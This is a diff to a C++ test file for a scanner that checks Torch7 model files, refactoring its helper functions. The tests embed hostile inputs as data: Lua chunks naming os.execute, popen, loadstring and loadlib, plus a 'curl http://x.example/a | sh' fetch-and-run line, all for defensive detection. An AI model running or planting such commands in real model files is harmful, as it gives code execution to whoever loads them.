@@ -6,7 +6,7 @@
 #include <algorithm>
 
 #include "scan/lua_chunk.h"
-#include "scan/scanner.h"
+#include "scan/test_support.h"
 
 namespace hauberk::scan {
 namespace {
@@ -68,13 +68,7 @@ class Torch7Writer {
   std::int32_t objects_ = 0;
 };
 
-Report torch7_scan(const std::string& data, std::string_view name = "m.t7") {
-  MemoryReader reader(as_bytes(data));
-  return scan(reader, name);
-}
-bool torch7_has(const Report& report, std::string_view rule) {
-  return std::ranges::any_of(report.findings, [&](const Finding& f) { return f.rule == rule; });
-}
+Report torch7_scan(const std::string& data, std::string_view name = "m.t7") { return scan_bytes(data, name); }
 std::string torch7_told(const Report& report) {
   std::string text = std::string(name(report.verdict)) + " " + report.format;
   for (const auto& finding : report.findings)
@@ -108,7 +102,7 @@ TEST(Torch7, a_network_is_clean_in_both_spellings) {
   }
   const auto foreign = torch7_scan(torch7_network(false, 4));
   EXPECT_EQ(foreign.verdict, ScanVerdict::review) << torch7_told(foreign);
-  EXPECT_TRUE(torch7_has(foreign, "torch7.short-longs"));
+  EXPECT_TRUE(has_rule(foreign, "torch7.short-longs"));
   EXPECT_EQ(torch7_scan(Torch7Writer().table(0).out).format, "torch7");
 }
 
@@ -117,8 +111,8 @@ TEST(Torch7, every_cut_is_seen) {
     const auto whole = torch7_network(ascii);
     for (std::size_t cut = 30; cut + 1 < whole.size(); ++cut)
       EXPECT_NE(torch7_scan(whole.substr(0, cut)).verdict, ScanVerdict::clean) << cut;
-    EXPECT_TRUE(torch7_has(torch7_scan(whole.substr(0, whole.size() / 2)), "torch7.malformed"));
-    EXPECT_TRUE(torch7_has(torch7_scan(whole + "more"), "scan.trailing-bytes"));
+    EXPECT_TRUE(has_rule(torch7_scan(whole.substr(0, whole.size() / 2)), "torch7.malformed"));
+    EXPECT_TRUE(has_rule(torch7_scan(whole + "more"), "scan.trailing-bytes"));
   }
 }
 
@@ -129,14 +123,14 @@ TEST(Torch7, a_function_is_code_and_what_it_names_decides) {
     };
     const auto harmless = with(torch7_chunk({"zero", "math"}));
     EXPECT_EQ(harmless.verdict, ScanVerdict::review) << torch7_told(harmless);
-    EXPECT_TRUE(torch7_has(harmless, "torch7.function"));
+    EXPECT_TRUE(has_rule(harmless, "torch7.function"));
     for (const auto& chunk :
          {torch7_chunk({"id", "execute", "os"}), torch7_chunk({"popen", "io"}), torch7_chunk({"code", "loadstring"}),
           torch7_chunk({"x.so", "loadlib", "package"}), torch7_chunk({"ffi", "require"}), "os.execute('id')"s,
           torch7_chunk({"curl http://x.example/a | sh"})}) {
       const auto report = with(chunk);
       EXPECT_EQ(report.verdict, ScanVerdict::malicious) << torch7_told(report);
-      EXPECT_TRUE(torch7_has(report, "torch7.dangerous-function"));
+      EXPECT_TRUE(has_rule(report, "torch7.dangerous-function"));
     }
   }
   const auto alone = torch7_scan(Torch7Writer().function(torch7_chunk({"execute", "os"})).out, "model.bin");
@@ -164,16 +158,16 @@ TEST(Torch7, texts_classes_and_bounds_are_judged) {
     return torch7_scan(Torch7Writer().table(1).string("note").string(text).out);
   };
   EXPECT_EQ(with("a network for small images (2015)").verdict, ScanVerdict::clean);
-  EXPECT_TRUE(torch7_has(with("os.execute('id')  -- now"), "scan.program-text"));
-  EXPECT_TRUE(torch7_has(with("import os; os.system('id')"), "scan.program-text"));
+  EXPECT_TRUE(has_rule(with("os.execute('id')  -- now"), "scan.program-text"));
+  EXPECT_TRUE(has_rule(with("import os; os.system('id')"), "scan.program-text"));
   const auto unknown = torch7_scan(Torch7Writer().object("my.Layer").table(0).out);
-  EXPECT_TRUE(torch7_has(unknown, "torch7.unknown-class"));
+  EXPECT_TRUE(has_rule(unknown, "torch7.unknown-class"));
   EXPECT_EQ(unknown.verdict, ScanVerdict::review);
   EXPECT_EQ(torch7_scan(Torch7Writer().object("my.Layer").number(1).out).verdict, ScanVerdict::inconclusive);
-  EXPECT_TRUE(torch7_has(torch7_scan(Torch7Writer().tensor({2, 3}, {3, 1}).floats(5).out), "torch7.out-of-bounds"));
-  EXPECT_TRUE(torch7_has(torch7_scan(Torch7Writer().tensor({2}, {1}, 0).floats(5).out), "torch7.out-of-bounds"));
-  EXPECT_TRUE(torch7_has(torch7_scan(Torch7Writer().tensor({2}, {1}).floats(2, "Int").out), "torch7.out-of-bounds"));
-  EXPECT_TRUE(torch7_has(torch7_scan(Torch7Writer().tensor({1}, {1}).integer(0).out), "torch7.out-of-bounds"));
+  EXPECT_TRUE(has_rule(torch7_scan(Torch7Writer().tensor({2, 3}, {3, 1}).floats(5).out), "torch7.out-of-bounds"));
+  EXPECT_TRUE(has_rule(torch7_scan(Torch7Writer().tensor({2}, {1}, 0).floats(5).out), "torch7.out-of-bounds"));
+  EXPECT_TRUE(has_rule(torch7_scan(Torch7Writer().tensor({2}, {1}).floats(2, "Int").out), "torch7.out-of-bounds"));
+  EXPECT_TRUE(has_rule(torch7_scan(Torch7Writer().tensor({1}, {1}).integer(0).out), "torch7.out-of-bounds"));
   EXPECT_EQ(torch7_scan(Torch7Writer().tensor({}, {}).integer(0).out).verdict, ScanVerdict::clean);
   EXPECT_EQ(torch7_scan(Torch7Writer().object("tds.Hash").longs({1}).string("k").number(2).out).verdict,
             ScanVerdict::clean);
@@ -207,9 +201,9 @@ TEST(Torch7, other_texts_stay_what_they_are) {
                            "3.5\n"s, "8\n1\n4\n"s, "12 monkeys\n"s})
     EXPECT_EQ(torch7_scan(text, "notes.txt").format, "text") << text;
   const auto mine = torch7_scan("a text", "m.t7");
-  EXPECT_TRUE(torch7_has(mine, "scan.name-mismatch"));
+  EXPECT_TRUE(has_rule(mine, "scan.name-mismatch"));
   const auto foreign = torch7_scan("T7\0\0torch.FloatTensor"s, "m.t7");
-  EXPECT_TRUE(torch7_has(foreign, "scan.name-mismatch"));
+  EXPECT_TRUE(has_rule(foreign, "scan.name-mismatch"));
   EXPECT_EQ(foreign.verdict, ScanVerdict::inconclusive);
 }
 
@@ -222,7 +216,7 @@ TEST(Torch7, an_object_that_is_another_file_as_well_is_seen_as_both) {
   EXPECT_NE(report.verdict, ScanVerdict::clean) << torch7_told(report);
   std::string tar = Torch7Writer().object("nn.A").table(1).string(std::string(600, 'a')).number(1).out;
   tar.replace(257, 5, "ustar");
-  EXPECT_TRUE(torch7_has(torch7_scan(tar), "scan.polyglot"));
+  EXPECT_TRUE(has_rule(torch7_scan(tar), "scan.polyglot"));
 }
 
 }  // namespace
